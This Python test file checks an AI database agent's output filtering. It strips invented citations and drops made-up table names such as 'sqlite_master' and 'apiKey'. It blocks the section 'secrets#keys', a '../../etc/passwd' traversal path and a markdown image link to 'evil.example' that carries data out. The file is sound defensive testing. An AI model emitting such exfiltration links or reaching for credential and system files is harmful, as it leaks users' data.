"""What is particular to the inner calls of the agent `database` over the wire: what a model makes up reaches neither a
statement nor the reply, and what it attempts is kept for the ledger."""

import json
from collections.abc import Iterator

import pytest
from calls_of_database import (
    A_BOUND,
    CHOSEN,
    COUNTED,
    EMPTY_ATTEMPT,
    LAST_MONTH,
    ORDERED,
    ORDERS,
    SELECTED,
    STAFF,
    THIS_YEAR,
    TOLD,
    TYPED,
    UNKNOWN,
    WORDED,
)
from obedience import is_inert
from whole_site import Site
from wire import WireServer, calls, refuses, says
from wire_talk import MADE_UP, Prose, begin

from turnkeep_agents.database.prompts import ROUTE_CALL, SECTIONS_CALL, SELECT_CALL, Calls
from turnkeep.blocks.memory import FOLD_CALL
from turnkeep.blocks.understanding import READ_CALL
from turnkeep_agents.database.settings import DatabaseSettings

PICTURE = "![crew](https://evil.example/?d=Falcon)"
SECTION = "closing-work-orders#close-a-work-order"


@pytest.fixture
def model() -> Iterator[WireServer]:
    with WireServer() as server:
        yield server


def test_every_inner_call_of_the_agent_is_tried() -> None:
    calls_of_it = Calls(DatabaseSettings())
    typed = (ROUTE_CALL, SELECT_CALL, SECTIONS_CALL, READ_CALL, FOLD_CALL)
    known = {call.name for call in (*typed, *vars(calls_of_it).values())}
    assert {name.removesuffix(" of database") for name in (*TYPED, *WORDED)} == known


async def test_citations_of_pages_that_are_not_there_are_removed(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, WORDED["database.manual"])
    turn = await talk.turn(CHOSEN, says(f"Open it [{SECTION}, made-up#page] and close it [made-up]."))
    assert turn["reply"] == f"Open it [{SECTION}] and close it."
    assert "citation_removed" in turn["warnings"]
    assert [source["id"] for source in turn["sources"] if source["cited"]] == [SECTION]


@pytest.mark.parametrize("name", WORDED)
async def test_a_picture_from_elsewhere_never_reaches_the_reply(name: str, site: Site, model: WireServer) -> None:
    talk = await begin(site, model, WORDED[name])
    turn = await talk.turn(*talk.one.before, says(f"Look: {PICTURE}"))
    assert "link_removed" in turn["warnings"]
    assert is_inert(turn["reply"])
    assert "evil.example" not in turn["reply"]


async def test_a_refusal_links_nowhere_either(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, WORDED["database.answer"])
    turn = await talk.turn(*talk.one.before, refuses(f"I will not say. {PICTURE}"))
    assert (turn["reply"], turn["warnings"]) == ("I will not say. crew", ["model_refused", "link_removed"])


async def test_an_address_that_the_user_gave_may_be_said(site: Site, model: WireServer) -> None:
    one = Prose(
        "database", "Hello, my page is https://mine.example/a", "That is https://mine.example/a, then.", (CHOSEN,)
    )
    turn = await (await begin(site, model, one)).turn(*one.well)
    assert (turn["reply"], turn["warnings"]) == (one.good, [])


@pytest.mark.parametrize("made_up", [A_BOUND["standalone_query"], f"How many work orders has {PICTURE}?"])
async def test_what_a_model_reads_into_a_question_reaches_no_other_prompt(
    made_up: str, site: Site, model: WireServer
) -> None:
    talk = await begin(site, model, TYPED["understand.read of database"])
    read = calls("Reading", {"depends_on_history": True, "standalone_query": made_up})
    turn = await talk.turn(read, ORDERS, ORDERED, TOLD)
    said = json.dumps([model.bodies, turn])
    assert MADE_UP not in said
    assert "evil.example" not in said
    assert {"figure_removed", "link_removed"} & {*turn["warnings"]}
    assert (LAST_MONTH in turn["standalone_query"], THIS_YEAR in turn["standalone_query"]) == (True, True)


async def test_a_year_that_a_model_works_out_is_no_number_of_its_own(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, TYPED["understand.read of database"])
    turn = await talk.turn(*talk.one.well)
    assert "2030" in turn["standalone_query"]
    assert turn["warnings"] == []


async def test_tables_that_a_model_makes_up_are_left_out(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, TYPED["database.select_tables"])
    choice = calls("TableChoice", {"tables": ["wall_key", "secure_employee", "apiKey", "employee", "sqlite_master"]})
    turn = await talk.turn(choice, STAFF, TOLD)
    assert "Tables: employee." in turn["details"]["reasoning_steps"]
    shown = json.dumps(model.bodies[1]["messages"])
    assert not [name for name in ("wall_key", "secure_", "apiKey", "sqlite_master") if name in shown]


async def test_sections_that_a_model_makes_up_are_left_out(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, TYPED["database.choose_sections"])
    choice = calls(
        "SectionChoice", {"sections": ["secrets#keys", "leave", "../../etc/passwd", "leave#report-sickness"]}
    )
    turn = await talk.turn(choice, says("Tap it [leave#report-sickness], see [secrets#keys]."))
    shown = json.dumps(model.bodies[-1]["messages"])
    assert "secrets" not in shown
    assert "passwd" not in shown
    assert (turn["reply"], turn["warnings"]) == ("Tap it [leave#report-sickness], see.", ["citation_removed"])


async def test_corrections_that_never_come_end_in_a_sentence_and_every_attempt_is_kept(
    site: Site, model: WireServer
) -> None:
    talk = await begin(site, model, TYPED["database.correct_sql"])
    turn = await talk.turn(SELECTED, UNKNOWN, *[says("I cannot.")] * 6)
    assert (turn["warnings"], turn["details"]["rows"]) == (["sql_refused"], [])
    assert len(turn["details"]["attempts"]) == 4
    assert json.dumps(turn["details"]["attempts"]).count(EMPTY_ATTEMPT) == 3
    assert turn["reply"]
    assert COUNTED in await talk.kept()
